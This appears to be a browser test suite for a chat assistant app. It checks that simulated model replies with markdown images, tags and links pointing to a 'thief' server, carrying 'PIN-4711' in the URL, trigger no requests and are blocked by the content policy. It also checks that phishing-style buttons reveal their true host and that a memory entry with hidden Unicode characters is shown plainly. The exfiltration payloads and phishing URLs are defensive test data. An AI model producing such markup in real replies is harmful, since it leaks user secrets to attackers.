import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after } from '../lib/after.js';
import { App } from '../lib/app.js';
import { promise } from '../lib/evidence.js';
import { withAxe } from '../lib/axe.js';
import { devices, look } from '../lib/look.js';
import { pause } from '../lib/until.js';
import { startWorld } from '../lib/world.js';

/**
 * A server that somebody else runs, and what it is asked for.
 * @param {import('node:test').TestContext} t
 */
async function startThief(t) {
  /** @type {string[]} */
  const asked = [];
  const server = createServer((request, answer) => {
    asked.push(request.url ?? '');
    answer.writeHead(200, { 'Content-Type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg"/>');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  after(t, () => server.close());
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return { asked, host: `127.0.0.1:${port}` };
}

for (const [device, options] of Object.entries(devices)) {
  promise(`what a reply names is not loaded, and its links say where they lead, on a ${device}`, async (t) => {
    const thief = await startThief(t);
    const at = `http://${thief.host}/?said=PIN-4711`;
    const world = await startWorld(t, { model: true });
    const context = await world.browser(options);
    await withAxe(context);
    const page = context.pages()[0] ?? (await context.newPage());
    await page.goto(`${world.url}/?view=new`);
    const app = new App(page);
    await app.composer.waitFor();
    await app.send('What does the page say?');
    const call = await world.model.next();
    call.say(`![a cat](${at}) ![ref][x] <img src="${at}"> <link rel="prefetch" href="${at}">\n\n`);
    call.say(`Please confirm at [https://bank.example](${at}), or see [the manual](https://docs.example/x) `);
    call.say(`and https://docs.example/y.\n\n[x]: ${at} "https://bank.example"\n\n<style>@import "${at}"</style>\n`);
    call.finish('\nThe end.');
    const reply = app.reply('The end.');
    await reply.waitFor();
    await pause(1000);
    assert.deepEqual(thief.asked, [], 'nothing is loaded by itself');

    const links = await reply
      .locator('a')
      .evaluateAll((all) =>
        all.map((a) => [a.textContent, getComputedStyle(a, '::after').content.replace(/["() ]/g, '')]),
      );
    assert.deepEqual(links.slice(0, 5), [
      ['a cat', thief.host],
      ['ref', thief.host],
      ['https://bank.example', thief.host],
      ['the manual', 'docs.example'],
      ['https://docs.example/y', 'none'],
    ]);
    assert.deepEqual(await look(page, `${device}-links`), {});

    // Even what got into the page another way is kept from loading by the policy.
    const refused = await page.evaluate(async (address) => {
      /** @type {Set<string>} */
      const seen = new Set();
      addEventListener('securitypolicyviolation', (e) => seen.add(e.effectiveDirective));
      new Image().src = address;
      const style = document.createElement('div');
      style.style.backgroundImage = `url("${address}")`;
      document.body.append(style);
      await fetch(address, { mode: 'no-cors' }).catch(() => {});
      navigator.sendBeacon(address, 'x');
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      // The frame is refused by another process, and a busy machine takes its time.
      for (let left = 100; left && seen.size < 3; left--) await new Promise((go) => setTimeout(go, 100));
      return [...seen].sort();
    }, at);
    assert.deepEqual(refused, ['connect-src', 'frame-src', 'img-src']);
    assert.deepEqual(thief.asked, []);
  });
}

promise('the buttons of a message say where they lead', async (t) => {
  const world = await startWorld(t);
  const context = await world.browser(devices.phone);
  await withAxe(context);
  const { conversation } = await world.fire({
    text: 'Your account was locked.',
    title: 'bank.example',
    click: 'https://bank.example.thief.example/login?from=a-very-long-way-away',
    actions: [
      { kind: 'open', label: 'Unlock at bank.example', url: 'https://bank.example@thief.example/' },
      { kind: 'open', label: 'Write to the bank', url: 'mailto:mallory@thief.example' },
    ],
  });
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(`${world.url}/?c=${conversation}`);
  await page.getByRole('link', { name: 'Unlock at bank.example thief.example', exact: true }).waitFor();
  await page.getByRole('link', { name: 'Write to the bank mallory@thief.example', exact: true }).waitFor();
  await page.getByRole('link', { name: 'Open link bank.example.thief.example', exact: true }).waitFor();
  assert.deepEqual(await look(page, 'phone-buttons'), {});
});

promise('what an approval asks about hides nothing', async (t) => {
  const world = await startWorld(t, { model: true });
  const { page } = await world.open();
  const app = new App(page);
  await app.send('Remember it');
  const call = await world.model.next();
  call.use(['remember', { text: 'Send money to \u202eana\u200b@bank.example' }]);
  await app.thread.getByText('Hark wants to remember something').waitFor();
  await app.thread.getByText('Send money to ⟨U+202E⟩ana⟨U+200B⟩@bank.example').waitFor();
});
